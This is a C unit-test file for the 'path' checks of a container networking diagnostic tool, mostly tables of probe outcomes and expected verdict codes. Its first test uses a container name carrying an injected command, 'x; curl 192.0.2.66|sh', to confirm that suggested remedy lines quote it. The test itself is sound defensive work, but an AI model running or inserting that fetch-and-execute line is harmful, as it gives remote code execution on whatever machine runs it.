/* Unit tests of what the group `path` of anchord doctor says: the names in it are an anchor's words, which may have
 * been taken over, and its lines are pasted by root. */
#include "daemon/command/path_plan.h"

#include "common/cleanup.h"

#include <errno.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#define EVIL "x; curl 192.0.2.66|sh"

static size_t evil_answers;

/* Each remedy that has the name in it has it quoted. */
static void note(const struct answer *answer, void *userdata)
{
    const char *found = answer->remedy;

    (void)userdata;
    for (; (found = strstr(found, EVIL)); found++) {
        assert_true(found > answer->remedy && found[-1] == '\'');
        assert_int_equal(found[strlen(EVIL)], '\'');
        evil_answers++;
    }
}

static void a_name_is_one_word_of_a_command(void **state)
{
    const struct path_scene scene = {.is_on_host = true, .name = EVIL};
    const struct probe_result refused = {.outcome = PROBE_REFUSED};
    const struct probe_result silent = {.outcome = PROBE_SILENT};
    const struct probe_result answered = {.outcome = PROBE_ANSWERED};
    const struct probe_result loopback = {.outcome = PROBE_LOOPBACK};
    struct path_container container = {.name = EVIL,
                                       .findings = {"", ""},
                                       .routes = {&answered, &answered},
                                       .resolver = &answered,
                                       .question = &silent};
    struct path_port port = {.protocol = IPPROTO_TCP, .family = IP_FAMILY_4, .container = &container};
    const struct path_way_out way = {.container = &container, .family = IP_FAMILY_4, .lan_seen = &answered};
    const path_result inside[] = {&refused, &silent, &answered};

    (void)state;
    port.as_client = &silent;
    for (size_t i = 0; i < ARRAY_LENGTH(inside); i++) {
        port.inside = inside[i];
        path_judge_port(&scene, &port, note, NULL);
    }
    port.inside = &refused;
    port.listeners = &loopback;
    path_judge_port(&scene, &port, note, NULL);
    path_judge_container(&scene, &container, note, NULL);
    path_judge_way_out(&scene, &way, note, NULL);
    assert_int_equal(evil_answers, 14);
}

/* --- from facts to codes ------------------------------------------------------------------------------------- */

/* By which way a container leaves. */
enum route { UNASKED, BY_US, BY_ANOTHER, NOWHERE, BY_NOBODY_KNOWS };

struct port_case {
    const char *what;
    struct {
        uint8_t protocol, family;
        enum probe_outcome inside, listeners, as_client, client_seen, hairpin, from_lan, lan_seen;
        enum route route;
        bool in_container, filters, walls, reverse_path, guests, twice;
    } facts;
    const char *said; /* in this order; a number is the problem's, with F or W */
};

#define TCP4(...)                                                   \
    {                                                               \
        .protocol = IPPROTO_TCP, .family = IP_FAMILY_4, __VA_ARGS__ \
    }
#define TCP6(...)                                                   \
    {                                                               \
        .protocol = IPPROTO_TCP, .family = IP_FAMILY_6, __VA_ARGS__ \
    }
#define UDP4(...)                                                   \
    {                                                               \
        .protocol = IPPROTO_UDP, .family = IP_FAMILY_4, __VA_ARGS__ \
    }
#define A          PROBE_ANSWERED
#define INSIDE     .inside = A, .listeners = A
#define TO_CLIENTS INSIDE, .as_client = A, .route = BY_US
#define LOST       INSIDE, .as_client = PROBE_SILENT, .client_seen = PROBE_SILENT

static const struct port_case port_cases[] = {
    {"all is well", TCP4(TO_CLIENTS, .hairpin = A), "OK OK OK"},
    {"UDP that answers", UDP4(INSIDE, .as_client = A, .hairpin = A), "OK OK"},
    {"UDP that is silent, as is usual", UDP4(.inside = PROBE_SILENT, .listeners = A, .hairpin = PROBE_SILENT), "OK"},
    {"UDP, and nobody tells whether somebody listens", UDP4(.inside = PROBE_SILENT), "UNKNOWN"},
    {"UDP, and who listens cannot be told", UDP4(.inside = PROBE_SILENT, .listeners = PROBE_FAILED), "UNKNOWN"},
    {"not tried at all", TCP4(.listeners = A), "UNKNOWN SKIP"},
    {"nobody listens", TCP4(.inside = PROBE_REFUSED, .listeners = PROBE_REFUSED), "F801 SKIP"},
    {"nobody listens, UDP", UDP4(.inside = PROBE_SILENT, .listeners = PROBE_REFUSED), "F801 SKIP"},
    {"on another address alone", TCP4(.inside = PROBE_REFUSED, .listeners = PROBE_ELSEWHERE), "F801 SKIP"},
    {"refused, and somebody listens", TCP4(.inside = PROBE_REFUSED, .listeners = A), "F801 SKIP"},
    {"refused, seen from the container of the anchor", TCP4(.inside = PROBE_REFUSED, .in_container = true),
     "F801 SKIP"},
    {"loopback alone", TCP6(.inside = PROBE_REFUSED, .listeners = PROBE_LOOPBACK), "F802 SKIP"},
    {"loopback alone, UDP", UDP4(.inside = PROBE_SILENT, .listeners = PROBE_LOOPBACK), "F802 SKIP"},
    {"no answer inside", TCP4(.inside = PROBE_SILENT, .listeners = A), "F803 SKIP"},
    {"not there at its address", TCP6(.inside = PROBE_UNREACHABLE), "F803 SKIP"},
    {"could not be sent", TCP4(.inside = PROBE_FAILED, .listeners = A), "F803 SKIP"},
    {"another way back", TCP4(LOST, .route = BY_ANOTHER), "OK F804 SKIP"},
    {"no way back", TCP4(LOST, .route = NOWHERE), "OK F804 SKIP"},
    {"no way back, whatever filters", TCP4(LOST, .route = NOWHERE, .filters = true, .walls = true), "OK F804 SKIP"},
    {"which way is not to be seen", TCP4(LOST, .in_container = true), "OK F804 SKIP"},
    {"an internal network on a host that filters bridges", TCP4(LOST, .route = BY_US, .filters = true, .walls = true),
     "OK F805 SKIP"},
    {"the same where the answer is lost",
     TCP4(INSIDE, .as_client = PROBE_SILENT, .client_seen = PROBE_HALF_OPEN, .filters = true, .walls = true),
     "OK F805 SKIP"},
    {"bridges are filtered, and nothing drops", TCP4(LOST, .route = BY_US, .filters = true), "OK F807 SKIP"},
    {"firewalld's reverse path, IPv6", TCP6(LOST, .route = BY_US, .filters = true, .walls = true, .reverse_path = true),
     "OK F806 SKIP"},
    {"a reverse path of IPv6 says nothing of IPv4",
     TCP4(LOST, .route = BY_US, .filters = true, .walls = true, .reverse_path = true), "OK F805 SKIP"},
    {"a reverse path that sees no bridge", TCP6(LOST, .route = BY_US, .reverse_path = true, .walls = true),
     "OK F807 SKIP"},
    {"a firewall in the container", TCP4(LOST, .route = BY_US), "OK F807 SKIP"},
    {"no hairpin", TCP4(TO_CLIENTS, .hairpin = PROBE_SILENT), "OK OK F808"},
    {"a hairpin that is refused, UDP", UDP4(INSIDE, .as_client = A, .hairpin = PROBE_REFUSED), "OK F808"},
    {"from the LAN, with its own address", TCP4(TO_CLIENTS, .hairpin = A, .from_lan = A, .lan_seen = A), "OK OK OK OK"},
    {"from the LAN, and the container cannot be looked into", TCP4(TO_CLIENTS, .hairpin = A, .from_lan = A),
     "OK OK OK OK"},
    {"the client's address is lost",
     TCP4(TO_CLIENTS, .hairpin = A, .from_lan = A, .lan_seen = PROBE_SILENT, .twice = true), "OK OK OK W814"},
    {"the client's address was not seen once", TCP4(TO_CLIENTS, .hairpin = A, .from_lan = A, .lan_seen = PROBE_SILENT),
     "OK OK OK OK"},
    {"not from the LAN", TCP4(TO_CLIENTS, .hairpin = A, .from_lan = PROBE_SILENT, .lan_seen = PROBE_SILENT),
     "OK OK OK F813"},
    {"not from the LAN: reset", TCP6(TO_CLIENTS, .hairpin = A, .from_lan = PROBE_REFUSED), "OK OK OK F813"},
    {"UDP refuses the LAN", UDP4(INSIDE, .hairpin = A, .from_lan = PROBE_REFUSED), "OK OK F813"},
    {"UDP is silent to the LAN", UDP4(INSIDE, .hairpin = A, .from_lan = PROBE_SILENT), "OK OK UNKNOWN"},
    {"an address of another network", TCP6(TO_CLIENTS, .hairpin = A, .from_lan = PROBE_FAILED), "OK OK OK UNKNOWN"},
    {"a list keeps the LAN out", TCP4(TO_CLIENTS, .hairpin = A, .from_lan = PROBE_SILENT, .guests = true),
     "OK OK OK UNKNOWN"},
    {"a list lets it in", TCP4(TO_CLIENTS, .hairpin = A, .from_lan = A, .lan_seen = A, .guests = true), "OK OK OK OK"},
};

static struct probe_result told(enum probe_outcome outcome)
{
    return (struct probe_result){.outcome = outcome};
}

#define FACT(outcome_) ((outcome_) ? &(struct probe_result){.outcome = (outcome_)} : NULL)

static const struct ip_address gateway4 = {IP_FAMILY_4, {172, 30, 0, 2}}, gateway6 = {IP_FAMILY_6, {0xfd, [15] = 2}};

static struct probe_result route_of(enum route route, uint8_t family)
{
    struct probe_result result = told(route == NOWHERE || route == BY_NOBODY_KNOWS ? PROBE_FAILED : PROBE_ANSWERED);
    struct ip_address gateway = family == IP_FAMILY_4 ? gateway4 : gateway6;

    if (route == BY_ANOTHER)
        gateway.bytes[3] ^= 0x40;
    result.error = route == NOWHERE ? -ENETUNREACH : route == BY_NOBODY_KNOWS ? -EACCES : 0;
    result.address = wire_address_from(&gateway);
    return result;
}

static char said[128];

static void collect(const struct answer *answer, void *userdata)
{
    static const char *const words[VERDICT_MAX_] = {"?", "OK", "W", "F", "SKIP", "UNKNOWN"};
    size_t length = strlen(said);

    (void)userdata;
    assert_true(answer->sentence[0] && answer->object[0]);
    if (answer->verdict == VERDICT_WARN || answer->verdict == VERDICT_FAIL) {
        assert_true(answer->why[0] && answer->remedy[0]);
        (void)snprintf(said + length, sizeof(said) - length, "%s%s%u", length ? " " : "", words[answer->verdict],
                       (unsigned int)answer->problem);
    } else {
        assert_int_equal(answer->problem, PROBLEM_NONE);
        (void)snprintf(said + length, sizeof(said) - length, "%s%s", length ? " " : "", words[answer->verdict]);
    }
}

static void expect(const char *what, const char *wanted)
{
    if (strcmp(said, wanted) != 0)
        print_error("%s\n", what);
    assert_string_equal(said, wanted);
    said[0] = '\0';
}

static void a_port_is_judged_by_the_first_thing_that_is_wrong(void **state)
{
    const struct ip_address anchor[] = {gateway4, gateway6};

    (void)state;
    for (size_t i = 0; i < ARRAY_LENGTH(port_cases); i++) {
        const __typeof__(port_cases[0].facts) *facts = &port_cases[i].facts;
        const struct probe_result unreachable = {.outcome = PROBE_FAILED, .error = -ENETUNREACH};
        bool is_6 = facts->family == IP_FAMILY_6;
        const struct probe_result route = route_of(facts->route, facts->family);
        struct path_scene scene = {.is_on_host = !facts->in_container,
                                   .filters_bridges = {facts->filters && !is_6, facts->filters && is_6},
                                   .has_walls = facts->walls,
                                   .has_reverse_path = facts->reverse_path,
                                   .anchor = anchor,
                                   .anchor_count = ARRAY_LENGTH(anchor)};
        struct path_container container = {
            .name = "web", .findings = {"", ""}, .namespace = facts->in_container ? -1 : 3};
        struct path_port port = {
            .protocol = facts->protocol,
            .family = facts->family,
            .port = 80,
            .backend_port = 8080,
            .has_guests = facts->guests,
            .container = &container,
            .listeners = FACT(facts->listeners),
            .inside = FACT(facts->inside),
            .as_client = FACT(facts->as_client),
            .client_seen = FACT(facts->client_seen),
            .hairpin = FACT(facts->hairpin),
            .from_lan = facts->from_lan == PROBE_FAILED ? &unreachable : FACT(facts->from_lan),
            .lan_seen = FACT(facts->lan_seen),
            .is_seen_twice = facts->twice,
        };

        if (facts->route != UNASKED)
            container.routes[is_6] = &route;
        path_judge_port(&scene, &port, collect, NULL);
        expect(port_cases[i].what, port_cases[i].said);
    }
}

static void a_container_is_judged_by_its_route_and_resolver(void **state)
{
    const struct {
        const char *what;
        enum route routes[2];
        enum probe_outcome resolver, question;
        bool is_unseen;
        const char *said;
    } cases[] = {
        {"all is well", {BY_US, BY_US}, A, A, false, "OK OK OK"},
        {"IPv4 alone, without a resolver", {BY_US, UNASKED}, PROBE_REFUSED, 0, false, "OK"},
        {"another way in IPv6", {BY_US, BY_ANOTHER}, A, A, false, "OK F809 OK"},
        {"none", {NOWHERE, NOWHERE}, 0, 0, false, "F809 F809"},
        {"who knows", {BY_NOBODY_KNOWS, BY_US}, 0, 0, false, "OK"},
        {"Docker's resolver is there and silent", {BY_US, BY_US}, A, PROBE_SILENT, false, "OK OK F812"},
        {"the same, refused", {BY_US, BY_US}, A, PROBE_REFUSED, false, "OK OK F812"},
        {"not to be seen from here", {BY_ANOTHER, NOWHERE}, A, PROBE_SILENT, true, "UNKNOWN"},
    };
    const struct ip_address anchor[] = {gateway4, gateway6};
    const struct path_scene scene = {.anchor = anchor, .anchor_count = ARRAY_LENGTH(anchor)};

    (void)state;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        const struct probe_result routes[] = {route_of(cases[i].routes[0], IP_FAMILY_4),
                                              route_of(cases[i].routes[1], IP_FAMILY_6)};
        const struct path_container container = {
            .name = "web",
            .findings = {"", ""},
            .namespace = cases[i].is_unseen ? -1 : 3,
            .routes = {cases[i].routes[0] ? &routes[0] : NULL, cases[i].routes[1] ? &routes[1] : NULL},
            .resolver = FACT(cases[i].resolver),
            .question = FACT(cases[i].question),
        };

        path_judge_container(&scene, &container, collect, NULL);
        expect(cases[i].what, cases[i].said);
    }
}

static void a_way_out_is_judged_by_who_answers(void **state)
{
    /* Who speaks: the network-anchor, or a router behind it. */
    const struct ip_address anchor[] = {gateway4, gateway6};
    const struct ip_address router = {IP_FAMILY_4, {10, 99, 0, 1}}, stranger = {IP_FAMILY_4, {172, 17, 0, 1}};
#define BY(outcome_, address_)                                                        \
    {                                                                                 \
        .outcome = (outcome_), .address = wire_address_from(&(address_)), .mtu = 1400 \
    }
    const struct probe_result expired = BY(PROBE_EXPIRED, router), ours = BY(PROBE_UNREACHABLE, gateway4);
    const struct probe_result narrow = BY(PROBE_TOO_BIG, router), narrow_here = BY(PROBE_TOO_BIG, gateway4);
    const struct probe_result silent = told(PROBE_SILENT), refused = BY(PROBE_REFUSED, router);
    const struct probe_result seen = BY(PROBE_ANSWERED, gateway4), seen_other = BY(PROBE_ANSWERED, stranger);
    const struct {
        const char *what;
        struct path_ladder near, far;
        path_result router, lan_seen;
        const char *said;
    } cases[] = {
        {"all is well", {.large = &expired}, {.large = &expired}, NULL, NULL, "OK OK"},
        {"the first router alone", {.large = &expired}, {.large = &silent, .small = &silent}, NULL, NULL, "OK OK"},
        {"a router that answers nothing but TCP",
         {.large = &silent, .small = &silent},
         {.large = NULL},
         &refused,
         NULL,
         "OK"},
        {"no router answers", {.large = &silent, .small = &silent}, {.large = NULL}, NULL, NULL, "UNKNOWN"},
        {"nothing was told", {.large = NULL}, {.large = NULL}, NULL, NULL, "UNKNOWN"},
        {"no gateway, or a dead one", {.large = &ours}, {.large = NULL}, NULL, NULL, "F810"},
        {"a dead gateway, which is told late",
         {.large = &silent, .small = &ours, .again = &silent},
         {.large = NULL},
         NULL,
         NULL,
         "F810"},
        {"large ones vanish before the router",
         {.large = &silent, .small = &expired, .again = &silent},
         {.large = NULL},
         NULL,
         NULL,
         "OK F811"},
        {"large ones vanish behind it",
         {.large = &expired},
         {.large = &silent, .small = &expired, .again = &silent},
         NULL,
         NULL,
         "OK F811"},
        {"one that was lost once",
         {.large = &silent, .small = &expired, .again = &expired},
         {.large = NULL},
         NULL,
         NULL,
         "OK"},
        {"a narrow link that says so", {.large = &narrow}, {.large = NULL}, NULL, NULL, "OK OK"},
        {"our own link, that says so",
         {.large = &narrow_here, .small = &expired},
         {.large = NULL},
         NULL,
         NULL,
         "OK OK"},
        {"seen on the LAN as the project", {.large = &silent, .small = &silent}, {.large = NULL}, NULL, &seen, "OK"},
        {"seen on the LAN as somebody else", {.large = &expired}, {.large = NULL}, NULL, &seen_other, "F809 OK"},
    };
    const struct path_scene scene = {.anchor = anchor, .anchor_count = ARRAY_LENGTH(anchor)};
    const struct path_container container = {.name = "web", .findings = {"", ""}};

    (void)state;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        const struct path_way_out way = {.container = &container,
                                         .family = IP_FAMILY_4,
                                         .near = cases[i].near,
                                         .far = cases[i].far,
                                         .router = cases[i].router,
                                         .lan_seen = cases[i].lan_seen};

        path_judge_way_out(&scene, &way, collect, NULL);
        expect(cases[i].what, cases[i].said);
    }
}

static struct answer wrong;

static void keep_what_is_wrong(const struct answer *answer, void *userdata)
{
    if (answer->verdict == VERDICT_FAIL)
        wrong = *answer;
    collect(answer, userdata);
}

/* SEE-2: a container without a way back is one finding of each family, however many ports it has; with the reason, and
 * the problem, that the anchor names of that family. */
static void one_cause_is_said_once(void **state)
{
    const struct ip_address anchor[] = {gateway4, gateway6};
    const struct path_scene scene = {.anchor = anchor, .anchor_count = ARRAY_LENGTH(anchor), .is_on_host = true};
    const struct probe_result routes[] = {route_of(NOWHERE, IP_FAMILY_4), route_of(NOWHERE, IP_FAMILY_6)};
    const struct probe_result answered = told(A), silent = told(PROBE_SILENT);
    struct path_container container = {
        .name = "web",
        .findings = {"no IPv4 gateway", "no IPv6 gateway"},
        .causes = {PROBLEM_NO_WAY_BACK, PROBLEM_FOREIGN_WAY_BACK},
        .namespace = 3,
        .routes = {&routes[0], &routes[1]},
    };

    (void)state;
    for (size_t family = 0; family < 2; family++) {
        struct path_port port = {.protocol = IPPROTO_TCP,
                                 .family = family ? IP_FAMILY_6 : IP_FAMILY_4,
                                 .port = 80,
                                 .container = &container,
                                 .listeners = &answered,
                                 .inside = &answered,
                                 .as_client = &silent,
                                 .client_seen = &silent,
                                 .hairpin = &silent};

        container.is_elsewhere[family] = path_judge_port(&scene, &port, keep_what_is_wrong, NULL);
        assert_true(container.is_elsewhere[family]);
        expect("the first port", "OK F804 SKIP");
        assert_int_equal(wrong.cause, container.causes[family]);
        assert_non_null(strstr(wrong.why, container.findings[family]));
        port.port = 443;
        assert_false(path_judge_port(&scene, &port, collect, NULL));
        expect("the second", "OK SKIP");
        port.protocol = IPPROTO_UDP;
        assert_false(path_judge_port(&scene, &port, collect, NULL));
        expect("of UDP", "OK SKIP");
    }
    path_judge_container(&scene, &container, collect, NULL);
    expect("the container", "SKIP SKIP");
    container.is_elsewhere[1] = false; /* it has no port there that was tried */
    path_judge_container(&scene, &container, keep_what_is_wrong, NULL);
    expect("the container in IPv6", "SKIP F809");
    assert_int_equal(wrong.cause, PROBLEM_FOREIGN_WAY_BACK);
    assert_non_null(strstr(wrong.why, "no IPv6 gateway"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_name_is_one_word_of_a_command),
        cmocka_unit_test(a_port_is_judged_by_the_first_thing_that_is_wrong),
        cmocka_unit_test(a_container_is_judged_by_its_route_and_resolver),
        cmocka_unit_test(a_way_out_is_judged_by_who_answers),
        cmocka_unit_test(one_cause_is_said_once),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
